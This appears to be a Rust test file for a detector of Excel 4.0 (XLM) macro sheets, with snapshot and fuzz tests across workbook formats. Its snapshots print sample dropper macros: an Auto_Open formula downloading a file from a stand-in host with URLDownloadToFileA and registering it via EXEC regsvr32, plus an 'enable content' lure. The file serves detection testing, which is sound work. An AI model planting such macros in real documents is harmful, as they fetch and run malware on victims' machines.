//! The documents that the crate is measured on, as the machine gets them.

use super::*;
use crate::{Budget, ole::cfb::Cfb};

fn file(path: &str) -> Bytes {
    let folder = concat!(env!("CARGO_MANIFEST_DIR"), "/../../fixtures/files/");
    Bytes::from(std::fs::read(format!("{folder}{path}")).unwrap())
}

pub(crate) fn workbook(path: &str) -> Workbook {
    let bytes = file(path);
    let mut budget = Budget::new(bytes.len() as u64);
    if path.ends_with(".slk") {
        return sylk::read_workbook(&bytes, &mut budget);
    }
    if let Some(mut package) = Package::open(bytes.clone()) {
        return ooxml::read_workbook(&mut package, &mut budget).unwrap().book;
    }
    if let Some(cfb) = Cfb::open(&bytes) {
        let stream = cfb.find_stream("Workbook").or_else(|| cfb.find_stream("Book")).unwrap();
        return biff::read_workbook(&stream, &mut budget);
    }
    biff::read_workbook(&bytes, &mut budget)
}

/// A package, until the door of its own reader is there.
pub(crate) struct Package(zip::ZipArchive<std::io::Cursor<Bytes>>);

impl Package {
    pub(crate) fn open(bytes: Bytes) -> Option<Package> {
        zip::ZipArchive::new(std::io::Cursor::new(bytes)).ok().map(Package)
    }
}

impl ooxml::Parts for Package {
    fn part(&mut self, name: &str) -> Option<Bytes> {
        let mut out = Vec::new();
        std::io::Read::read_to_end(&mut self.0.by_name(name).ok()?, &mut out).ok()?;
        Some(out.into())
    }

    fn relations(&mut self, of: &str) -> Vec<ooxml::Relation> {
        let (folder, name) = of.rsplit_once('/').unwrap_or(("", of));
        let Some(bytes) = self.part(format!("{folder}/_rels/{name}.rels").trim_start_matches('/')) else {
            return Vec::new();
        };
        let mut xml = ooxml::xml::Xml::new(&bytes);
        let mut out = Vec::new();
        while let Some(event) = xml.next() {
            let ooxml::xml::Event::Open(element) = event else { continue };
            if element.name == "Relationship" {
                let target = element.get("Target").unwrap();
                let external = element.get("TargetMode").as_deref() == Some("External");
                let inner = target.strip_prefix('/').map(str::to_owned);
                out.push(ooxml::Relation {
                    id: element.get("Id").unwrap(),
                    kind: element.get("Type").unwrap(),
                    target: inner
                        .unwrap_or_else(|| format!("{folder}/{target}").trim_start_matches('/').to_owned()),
                    external,
                });
            }
        }
        out
    }
}

/// Findings of a file: name, severity, place.
fn findings(path: &str) -> String {
    let bytes = file(path);
    let hints = crate::Hints::default();
    let mut budget = Budget::new(bytes.len() as u64);
    let about = crate::scan::About {
        name: path.to_owned(),
        kind: crate::Kind::Unknown,
        declared: None,
        relation: crate::Relation::default(),
        depth: 0,
    };
    let mut scan = Scan::new(about, &hints, &mut budget);
    if path.ends_with(".slk") {
        analyse_sylk(&bytes, &mut scan);
    } else if let Some(mut package) = Package::open(bytes.clone()) {
        analyse_ooxml(&mut package, &mut scan);
    } else {
        let cfb = Cfb::open(&bytes).unwrap();
        analyse_workbook_stream(
            &cfb.find_stream("Workbook").or_else(|| cfb.find_stream("Book")).unwrap(),
            &mut scan,
        );
    }
    let of_reader = ["XLM-SHEET", "FMT-", "DDE-", "IQY-"];
    let mut lines: Vec<String> = scan
        .findings
        .iter()
        .filter(|f| of_reader.iter().any(|p| f.id.name().starts_with(p)))
        .map(|f| format!("{} {:?} @{}", f.id.name(), f.severity, f.location))
        .collect();
    lines.push(
        scan.facts.office.map(|o| format!("{} {:?}", o.application, o.macro_sheets)).unwrap_or_default(),
    );
    lines.join("\n")
}

/// Paths of the documents in a folder with one of these extensions.
fn paths(folder: &str, extensions: &[&str]) -> Vec<String> {
    let root = concat!(env!("CARGO_MANIFEST_DIR"), "/../../fixtures/files/");
    let entries = std::fs::read_dir(format!("{root}{folder}")).unwrap();
    let names = entries.map(|e| format!("{folder}/{}", e.unwrap().file_name().to_string_lossy()));
    let mut paths: Vec<String> =
        names.filter(|n| extensions.iter().any(|e| n.ends_with(&format!(".{e}")))).collect();
    paths.sort();
    paths
}

/// Formulas and constants without the values that a format may or may not store.
fn formulas(book: &Workbook) -> Vec<String> {
    let mut out = Vec::new();
    for (index, sheet) in book.sheets.iter().enumerate() {
        for (at, cell) in &sheet.cells {
            let at = reference::a1_text(*at);
            match (cell.formula, &cell.value) {
                (Some(id), _) => out.push(format!("{index} {at} ={}", dump::formula(book, id))),
                (None, model::Value::Blank) => {}
                (None, value) => out.push(format!("{index} {at} {value:?}")),
            }
        }
    }
    out
}

#[test]
fn all_formats_give_the_same_workbook() {
    for path in paths("xlm", &["xlsm"]) {
        let stem = path.trim_end_matches(".xlsm");
        if stem.ends_with("x25_bx_assign") {
            continue;
        }
        let expected = formulas(&workbook(&path));
        assert!(expected.len() > 2, "{path}");
        for other in ["xls", "xlsb"] {
            assert_eq!(formulas(&workbook(&format!("{stem}.{other}"))), expected, "{stem}.{other}");
        }
    }
}

#[test]
fn macro_sheets_are_found_in_every_macro_file() {
    for path in paths("xlm", &["xls", "xlsm", "xlsb", "xlsx", "slk"]) {
        let found = findings(&path);
        assert!(found.contains("XLM-SHEET "), "{path}: {found}");
    }
    insta::assert_snapshot!(findings("xlm/x23_macro_in_xlsx_type.xlsx"), @r#"
    FMT-TYPE-MISMATCH Medium @sheet "Macro1" (very hidden)
    XLM-SHEET Low @sheet "Macro1" (very hidden)
    XLM-SHEET-VERYHIDDEN High @sheet "Macro1" (very hidden)
    excel [("Macro1", "very hidden")]
    "#);
    insta::assert_snapshot!(findings("xlm/x20_auto_close.xls"), @r#"
    XLM-SHEET Low @sheet "Macro1" (hidden)
    XLM-SHEET-HIDDEN Medium @sheet "Macro1" (hidden)
    excel [("Macro1", "hidden")]
    "#);
    insta::assert_snapshot!(findings("xlm/x21_no_entry.xls"), @r#"
    XLM-SHEET Low @sheet "M" (very hidden)
    XLM-SHEET-VERYHIDDEN Medium @sheet "M" (very hidden)
    excel [("M", "very hidden")]
    "#);
    insta::assert_snapshot!(findings("xlm/x26_sylk.slk"), @r#"
    XLM-SHEET Low @sheet "Macro1"
    excel [("Macro1", "visible")]
    "#);
    insta::assert_snapshot!(findings("vba/v05_vba_runs_xlm.xlsm"), @r#"
    XLM-SHEET Low @sheet "Brisk" (hidden)
    XLM-SHEET-HIDDEN Low @sheet "Brisk" (hidden)
    excel [("Brisk", "hidden")]
    "#);
    insta::assert_snapshot!(findings("benign/b_legacy_macrosheet.xls"), @r#"
    XLM-SHEET Low @sheet "Macro1"
    excel [("Macro1", "visible")]
    "#);
}

#[test]
fn and_in_no_other() {
    for path in paths("benign", &["xls", "xlsx", "xlsb"]) {
        if !path.contains("legacy_macrosheet") {
            assert_eq!(findings(&path), "excel []", "{path}");
        }
    }
}

#[test]
fn a_workbook_is_shown_to_people() {
    insta::assert_snapshot!(dump::dump(&workbook("xlm/x16_shared_formula.xls")), @r#"
    name Auto_Open =M!A1
    sheet "S" Work
      A1 ["THIS DOCUMENT IS PROTECTED. Previewing is not available for protected documents. Press ENABLE EDITING button, then press ENABLE CONTENT button to view this document."]
    sheet "M" Macro very hidden
      A1 =CALL("URLMON","URLDownloadToFileA","JJCCBB",0,"http://alpha.fixture.invalid/44526.dat","C:\Datop\besta.ocx",0,0) [0]
      B1 [60]
      C1 =CHAR(B1+1) [0]
      A2 =FORMULA(C1&C2&C3&C4&C5&C6&C7,A4) [0]
      B2 [71]
      C2 =CHAR(B2+1) [0]
      A3 =EXEC("regsvr32 -silent C:\Datop\besta.ocx") [0]
      B3 [64]
      C3 =CHAR(B3+1) [0]
      B4 [75]
      C4 =CHAR(B4+1) [0]
      B5 [83]
      C5 =CHAR(B5+1) [0]
      B6 [39]
      C6 =CHAR(B6+1) [0]
      B7 [40]
      C7 =CHAR(B7+1) [0]
    "#);
    insta::assert_snapshot!(dump::dump(&workbook("xlm/x25_bx_assign.xlsm")), @r#"
    name Auto_Open =M!A1
    name u ="x"
    name p ="y"
    sheet "S" Work
      A1 ["THIS DOCUMENT IS PROTECTED. Previewing is not available for protected documents. Press ENABLE EDITING button, then press ENABLE CONTENT button to view this document."]
    sheet "M" Macro very hidden
      A1 :=u="http://alpha.fixture.invalid/44526.dat"
      A2 :=p="C:\Datop\besta.ocx"
      A3 =CALL("URLMON","URLDownloadToFileA","JJCCBB",0,u,p,0,0)
      A4 =HALT()
    "#);
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(300))]

    /// Bytes changed, cut out and put in anywhere: the reader survives, and so does the printer.
    #[test]
    fn streams_that_are_broken_are_survived(
        file_index in 0usize..4,
        edits in proptest::collection::vec((proptest::prelude::any::<proptest::sample::Index>(), 0u8..4, proptest::prelude::any::<u8>()), 1..24),
    ) {
        let paths = ["xlm/x16_shared_formula.xls", "xlm/x32_key_cells.xls", "xlm/x09_fwrite_vbs.xls", "benign/b_budget.xls"];
        let cfb = Cfb::open(&file(paths[file_index])).unwrap();
        let stream = broken(cfb.find_stream("Workbook").unwrap().to_vec(), &edits);
        let book = biff::read_workbook(&stream, &mut Budget::new(1 << 20));
        dump::dump(&book);
    }

    #[test]
    fn parts_that_are_broken_are_survived(
        file_index in 0usize..4,
        edits in proptest::collection::vec((proptest::prelude::any::<proptest::sample::Index>(), 0u8..4, proptest::prelude::any::<u8>()), 1..24),
    ) {
        let paths = ["xlm/x32_key_cells.xlsb", "xlm/x32_key_cells.xlsm", "benign/b_chart.xlsx", "benign/b_budget.xlsb"];
        let package = Package::open(file(paths[file_index])).unwrap();
        let mut broken_package = Broken(package, edits);
        if let Some(read) = ooxml::read_workbook(&mut broken_package, &mut Budget::new(1 << 20)) {
            dump::dump(&read.book);
        }
    }
}

type Edits = Vec<(proptest::sample::Index, u8, u8)>;

fn broken(mut bytes: Vec<u8>, edits: &Edits) -> Vec<u8> {
    for (index, what, byte) in edits {
        if bytes.is_empty() {
            break;
        }
        let at = index.index(bytes.len());
        match what {
            0 => bytes[at] = *byte,
            1 => bytes[at] ^= 1 << (byte & 7),
            2 => _ = bytes.drain(at..(at + usize::from(*byte)).min(bytes.len())),
            _ => bytes.insert(at, *byte),
        }
    }
    bytes
}

/// A package whose parts are broken.
struct Broken(Package, Edits);

impl ooxml::Parts for Broken {
    fn part(&mut self, name: &str) -> Option<Bytes> {
        self.0.part(name).map(|b| broken(b.to_vec(), &self.1).into())
    }

    fn relations(&mut self, of: &str) -> Vec<ooxml::Relation> {
        self.0.relations(of)
    }
}
